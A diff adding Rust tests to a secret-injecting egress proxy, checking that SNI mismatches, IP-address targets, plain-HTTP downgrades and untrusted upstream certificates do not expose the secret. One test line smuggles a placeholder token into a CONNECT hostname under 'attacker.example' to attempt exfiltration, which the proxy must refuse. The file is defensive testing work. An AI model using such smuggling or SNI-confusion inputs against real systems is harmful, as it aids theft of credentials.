@@ -140,10 +140,13 @@ fn echo() -> Responder {
 /// A TLS client trusting cordon's CA, through `CONNECT localhost:port`: writes `pieces` (apart)
 /// and reads until the proxy closes (or 10 s). `Err`: the handshake failed.
 async fn raw(t: &Tls, port: u16, alpn: &[&[u8]], pieces: &[&[u8]]) -> Result<String, String> {
+    raw_to(t, &format!("localhost:{port}"), "localhost", alpn, pieces).await
+}
+
+/// [`raw`] with the `CONNECT` target and the TLS server name of the caller's choice.
+async fn raw_to(t: &Tls, target: &str, sni: &str, alpn: &[&[u8]], pieces: &[&[u8]]) -> Result<String, String> {
     let mut c = TcpStream::connect(t.addr).await.unwrap();
-    c.write_all(format!("CONNECT localhost:{port} HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n").as_bytes())
-        .await
-        .unwrap();
+    c.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes()).await.unwrap();
     let mut head = Vec::new();
     while !head.ends_with(b"\r\n\r\n") {
         let mut b = [0u8; 1];
@@ -160,7 +163,7 @@ async fn raw(t: &Tls, port: u16, alpn: &[&[u8]], pieces: &[&[u8]]) -> Result<Str
         .with_root_certificates(roots)
         .with_no_client_auth();
     config.alpn_protocols = alpn.iter().map(|p| p.to_vec()).collect();
-    let name = rustls::pki_types::ServerName::try_from("localhost").unwrap();
+    let name = rustls::pki_types::ServerName::try_from(sni.to_string()).unwrap();
     let mut s = tokio_rustls::TlsConnector::from(Arc::new(config)).connect(name, c).await.map_err(|e| e.to_string())?;
     if let Some(p) = s.get_ref().1.alpn_protocol() {
         assert_eq!(p, b"http/1.1", "the proxy negotiates HTTP/1.1 only");
@@ -492,4 +495,73 @@ async fn plain_http_method_overrides_are_checked_by_request_rules() {
     let refused: Vec<&Value> =
         records.iter().filter(|r| r["why"] == "request-rule" || r["end"] == "request-rule").collect();
     assert!(refused.len() >= 2, "{records:#?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_leaf_is_minted_for_a_name_that_is_not_bound_and_no_downgrade_carries_the_value() {
+    let r = red(SECRET_VALUE, echo(), None).await;
+    let p = r.port;
+    let get = format!("GET / HTTP/1.1\r\nHost: localhost:{p}\r\nAuthorization: Bearer {PH_TOK}\r\n\r\n");
+    // A bound name in CONNECT, another in the ClientHello: cut before any certificate.
+    let e = raw_to(&r.tls, &format!("localhost:{p}"), "api2.test", &[], &[get.as_bytes()]).await;
+    assert!(e.is_err(), "{e:?}");
+    // The address (granted, nothing bound to it) with the bound name as SNI: not terminated.
+    let e = raw_to(&r.tls, &format!("127.0.0.1:{p}"), "localhost", &[], &[get.as_bytes()]).await;
+    assert!(e.is_err(), "{e:?}");
+    assert!(r.tls.authority.as_ref().unwrap().cached().is_empty(), "{:?}", r.tls.authority.as_ref().unwrap().cached());
+    // Plain HTTP in a tunnel to the bound host's port, the placeholder in its very place:
+    // nothing is put in over plain HTTP, and it is refused there.
+    let out = slowly(r.tls.addr, format!("CONNECT localhost:{p} HTTP/1.1\r\n\r\n").as_bytes(), get.as_bytes()).await;
+    assert!(out.contains("HTTP/1.1 403") && out.contains("X-Cordon-Refused: exfiltration"), "{out}");
+    // A placeholder in upper case in a CONNECT name (DNS names have no case).
+    let upper = format!("CONNECT {}.attacker.example:443 HTTP/1.1\r\n\r\n", PH_TOK.to_ascii_uppercase());
+    let out = slowly(r.tls.addr, upper.as_bytes(), b"").await;
+    assert!(out.starts_with("HTTP/1.1 403") && out.contains("exfiltration"), "{out}");
+    assert!(seen(&r.seen).is_empty(), "{:?}", seen(&r.seen));
+    let (_, records) = r.tls.finish().await;
+    assert!(records.iter().any(|r| r["end"] == "sni-mismatch"), "{records:#?}");
+    assert!(!serde_json::to_string(&records).unwrap().contains(SECRET_VALUE));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_expired_or_self_signed_upstream_gets_no_request() {
+    let ca = pki("upstream test CA");
+    let key = KeyPair::generate().unwrap();
+    let mut params = CertificateParams::new(vec!["localhost".to_string()]).unwrap();
+    params.not_before = rcgen::date_time_ymd(2000, 1, 1);
+    params.not_after = rcgen::date_time_ymd(2001, 1, 1);
+    let expired = params.signed_by(&key, &ca.issuer).unwrap();
+    let self_key = KeyPair::generate().unwrap();
+    let selfsigned = CertificateParams::new(vec!["localhost".to_string()]).unwrap().self_signed(&self_key).unwrap();
+    for (cert, key) in [(expired, key), (selfsigned, self_key)] {
+        let provider = Arc::new(rustls::crypto::ring::default_provider());
+        let config = ServerConfig::builder_with_provider(provider)
+            .with_safe_default_protocol_versions()
+            .unwrap()
+            .with_no_client_auth()
+            .with_single_cert(
+                vec![cert.der().clone()],
+                PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
+            )
+            .unwrap();
+        let (port, seen_up) = scripted(Arc::new(config), echo()).await;
+        let dir = tempfile::tempdir().unwrap();
+        let ca_file = file(dir.path(), "upstream-ca.pem", &ca.pem, 0o644);
+        let host = format!("localhost:{port}");
+        let mut rules_of = egress(&[host.clone(), format!("127.0.0.1:{port}")]);
+        rules_of.http.push(HostHttp { rule: parse_rule(&host).unwrap(), requests: None, upstream_ca: Some(ca_file) });
+        let secrets = vec![secret(
+            "tok",
+            PH_TOK,
+            SECRET_VALUE,
+            std::slice::from_ref(&host),
+            Placement::Header("authorization".into()),
+        )];
+        let t = proxy(rules_of, secrets, Some(Authority::generate("test").unwrap()), dir).await;
+        let get = format!("GET / HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {PH_TOK}\r\n\r\n");
+        let out = raw(&t, port, &[], &[get.as_bytes()]).await.unwrap();
+        refused_with(&out, 502, "upstream-unverified");
+        assert!(seen(&seen_up).is_empty());
+        t.finish().await;
+    }
 }
